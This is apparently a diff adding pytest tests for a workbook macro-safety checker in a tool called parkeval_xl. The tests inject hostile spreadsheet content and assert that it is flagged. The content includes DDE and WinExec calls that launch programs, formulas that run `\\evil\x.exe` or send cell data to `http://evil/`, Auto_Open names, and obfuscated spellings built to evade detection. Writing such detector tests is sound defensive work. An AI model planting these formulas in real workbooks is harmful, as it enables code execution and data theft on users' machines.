@@ -1,0 +1,162 @@
+"""A workbook that would run code of somebody else, with our macros untouched: each way is told, and what is harmless is not."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+
+from parkeval_xl.checks.calls import Verdict, called, procedures
+from parkeval_xl.forms import Plan
+from parkeval_xl.forms import book as declared
+from parkeval_xl.graph import UDF
+from parkeval_xl.install.answer import FAULT, OK, WARNING, Answer
+from parkeval_xl.install.received import Received
+from parkeval_xl.workbook.package import Package
+from parkeval_xl.workbook.patch import replace_parts
+from parkeval_xl.workbook.save import save
+from tests.install.fake_machine import clean
+
+SHEET, BOOK, RELATIONS, RIBBON = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "customUI/customUI14.xml"
+PLAN = Plan(year=2025, base_year=2020, materials=("scrap_steel",), rows=10, index="")
+RULE = '<conditionalFormatting sqref="A1"><cfRule type="{}" priority="9999">{}</cfRule></conditionalFormatting>'
+VALIDATION = '<extLst><ext xmlns:x="urn:x"><x:dataValidation prompt="{}"><x:formula1>{}</x:formula1></x:dataValidation></ext></extLst>'
+SHAPE = '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:sp {}/></xdr:wsDr>'
+EXTERNAL = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</externalLink>'
+VML = '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="Button">{}</x:ClientData></xml>'
+
+
+@pytest.fixture(scope="module")
+def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("received") / "园区.xlsm"
+    save(declared(PLAN), UDF, path)
+    return path
+
+
+@pytest.fixture
+def book(original: Path, tmp_path: Path) -> Path:
+    return Path(shutil.copy(original, tmp_path / original.name))
+
+
+def judged(path: Path) -> Answer:
+    """What `doctor FILE` says of its macros."""
+    return next(t.answer for t in Received(clean(system="linux"), path).told() if t.id == "file_macros")
+
+
+def with_text(path: Path, part: str, old: str, new: str) -> Path:
+    """The workbook with a text of a part replaced where it stands first."""
+    content = Package.open(path).read(part).decode()
+    assert old in content
+    replace_parts(path, {part: content.replace(old, new, 1).encode()}, path)
+    return path
+
+
+def with_cell(path: Path, cell: str, sheet: str = SHEET) -> Path:
+    """The workbook with a cell far below all others."""
+    return with_text(path, sheet, "</sheetData>", f'<row r="900">{cell}</row></sheetData>')
+
+
+@pytest.mark.parametrize("formula", [
+    "RunPython(&quot;import os&quot;)",
+    "1+runpython (&quot;import os&quot;)",
+    "&#82;unPython(&quot;import os&quot;)",
+    "_x0052_unPython(&quot;import os&quot;)",
+    "Run<!-- -->Python(&quot;import os&quot;)",
+    "<![CDATA[RunPython(1)]]>",
+    "ＲｕｎＰｙｔｈｏｎ（1）",
+    "xlwings.RunFrozenPython(&quot;\\\\evil\\x.exe&quot;)",
+    "'园区.xlsm'!RunPython(1)",
+    "[0]!RunPython(1)",
+    "IF(1,ExecuteWindows(TRUE,&quot;\\\\evil\\x.exe&quot;,1),2)",
+    "'a\"b'!A1&amp;RunPython(1)&amp;'c\"d'!A1",
+    "_xlfn.REDUCE(0,A1:A3,RunPython)",
+    "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
+    "REGISTER.ID(&quot;x&quot;,&quot;y&quot;)",
+    "_xlfn.WEBSERVICE(&quot;http://evil/&quot;&amp;A1)",
+    "[1]!Evil(1)",
+    "cmd|'/c calc'!A1",
+    "HYPERLINK(&quot;#RunThat()&quot;,&quot;详情&quot;)",
+    "HYPERLINK(A1&amp;B1,&quot;详情&quot;)",
+])
+def test_a_cell_that_calls_what_runs_code(book: Path, formula: str) -> None:
+    answer = judged(with_cell(book, f'<c r="A900" t="str"><f>{formula}</f><v></v></c>'))
+    assert answer.state == FAULT and "封面" in answer.what[0] and "代码" in answer.what[0] and "不要启用" in answer.mend[0]
+
+
+@pytest.mark.parametrize(("part", "old", "new", "says"), [
+    (BOOK, "</definedNames>", '<definedName name="zz">RunPython(1)</definedName></definedNames>', "zz"),
+    (BOOK, "</definedNames>", '<definedName name="zz" xlm="1" function="1">封面!$A$1</definedName></definedNames>', "zz"),
+    (BOOK, "</definedNames>", '<definedName name="_xlnm.Auto_Open">封面!$A$1</definedName></definedNames>', "Auto_Open"),
+    (SHEET, "</worksheet>", RULE.format("expression", "<formula>RunPython(1)</formula>") + "</worksheet>", "RunPython"),
+    (SHEET, "</worksheet>", RULE.format("dataBar", '<dataBar><cfvo type="formula" val="CALL(1)"/></dataBar>') + "</worksheet>", "CALL"),
+    (SHEET, "</worksheet>", VALIDATION.format("", "<xm:f xmlns:xm='urn:m'>RunPython(1)</xm:f>") + "</worksheet>", "RunPython"),
+    (SHEET, "</worksheet>", '<hyperlinks><hyperlink ref="A1" location="RunPython(1)"/></hyperlinks></worksheet>', "RunPython"),
+    (SHEET, "</worksheet>", "<unheard><of>RunPython(1)</of></unheard></worksheet>", "RunPython"),
+    (RIBBON, 'onAction="ParkRun"', 'onAction="xlwings.ImportPythonUDFs"', RIBBON),
+    (RIBBON, "请确认本机已安装", "请访问 evil.example 下载", RIBBON),
+    (RELATIONS, "</Relationships>", '<Relationship Id="rIdM" Target="other.bin" '
+     'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>', "other.bin"),
+    (RELATIONS, "</Relationships>", '<Relationship Id="rIdM" Target="m.xml" '
+     'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"/></Relationships>', "xlMacrosheet"),
+])
+def test_a_part_that_calls_what_runs_code(book: Path, part: str, old: str, new: str, says: str) -> None:
+    answer = judged(with_text(book, part, old, new))
+    assert answer.state == FAULT and says in answer.what[0] and says in answer.what[1]
+
+
+@pytest.mark.parametrize(("part", "content", "says"), [
+    ("xl/drawings/d.xml", SHAPE.format('macro="[0]!ParkRun"'), "ParkRun"),
+    ("xl/drawings/d.xml", SHAPE.format('textlink="RunPython(1)"'), "RunPython"),
+    ("xl/drawings/d.vml", VML.format("<x:FmlaMacro>[0]!ParkRun</x:FmlaMacro>"), "ParkRun"),
+    ("xl/drawings/d.vml", "<xml><br><x:FmlaMacro>ParkRun</x:FmlaMacro></xml>", "d.vml"),
+    ("xl/ctrlProps/c.bin", '<formControlPr fmlaMacro="ParkRun"/>', "ParkRun"),
+    ("xl/externalLinks/e.xml", EXTERNAL.format('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "ddeLink"),
+    ("XL/Theme/Theme1.xml", "<x/>", "case"),
+])
+def test_a_part_more_that_runs_code(book: Path, part: str, content: str, says: str) -> None:
+    replace_parts(book, {part: content.encode()}, book)
+    answer = judged(book)
+    assert answer.state == FAULT and says in answer.what[0]
+
+
+def test_a_formula_on_the_sheet_of_settings(book: Path) -> None:
+    part = Package.open(book).worksheet("xlwings.conf").part
+    answer = judged(with_cell(book, '<c r="D900" t="str"><f>"a"&amp;"b"</f><v></v></c>', part))
+    assert answer.state == FAULT and "xlwings.conf" in answer.what[0]
+
+
+def test_a_function_that_nobody_here_knows_is_not_certified(book: Path) -> None:
+    answer = judged(with_cell(book, '<c r="A900"><f>SOMEADDIN(1)</f><v>1</v></c>'))
+    assert answer.state == WARNING and "SOMEADDIN" in answer.what[0]
+
+
+def test_many_findings_are_told_shortly(book: Path) -> None:
+    cells = "".join(f'<c r="A{n}"><f>RunPython({n})</f></c>' for n in range(900, 960))
+    replaced = with_text(book, SHEET, "</sheetData>", f'<row r="900">{cells}</row></sheetData>')
+    assert len(judged(replaced).what[0]) < 500
+
+
+@pytest.mark.parametrize("content", [
+    '<c r="A900"><f>SUM(A1:A3)+\'表 (1)\'!B2+表1[数量(t)]+PARK_CHANGE(1,2)</f><v>1</v></c>',
+    '<c r="A900"><f>_xlfn.XLOOKUP(1,A1:A3,B1:B3)+_xlfn._xlws.FILTER(A1,B1)</f><v>1</v></c>',
+    '<c r="A900"><f>HYPERLINK("https://example.org/a","甲(乙|丙)")</f><v>1</v></c>',
+    '<c r="A900" t="str"><f>A1:INDEX(B1:B9,2)&amp;"电话(CALL)"</f><v>RunPython(1)</v></c>',
+    '<c r="A900" t="inlineStr"><is><t>如 RunPython(1)</t></is></c>',
+])
+def test_what_a_person_writes_is_no_code(book: Path, content: str) -> None:
+    assert judged(with_cell(book, content)).state == OK
+
+
+def test_a_picture_as_excel_writes_it_is_no_code(book: Path) -> None:
+    shape = SHAPE.format('macro="" textlink="$A$1"').encode()
+    replace_parts(book, {"xl/drawings/d.xml": shape, "xl/drawings/d.vml": b"<xml><br></xml>"}, book)
+    assert judged(book).state == OK
+
+
+def test_the_procedures_are_those_a_cell_could_name() -> None:
+    """By their declarations in xlwings.bas 0.37.8 and in our modules."""
+    assert {"runpython", "runfrozenpython", "executewindows", "xlpycommand", "parkrun", "parkfail"} <= procedures()
+    assert not any(name.startswith("park_") for name in procedures())
+    assert called("PARK_EMISSION(1)") is None
+    assert called("XLPyCommand()") == ("XLPyCommand", Verdict.RUNS)
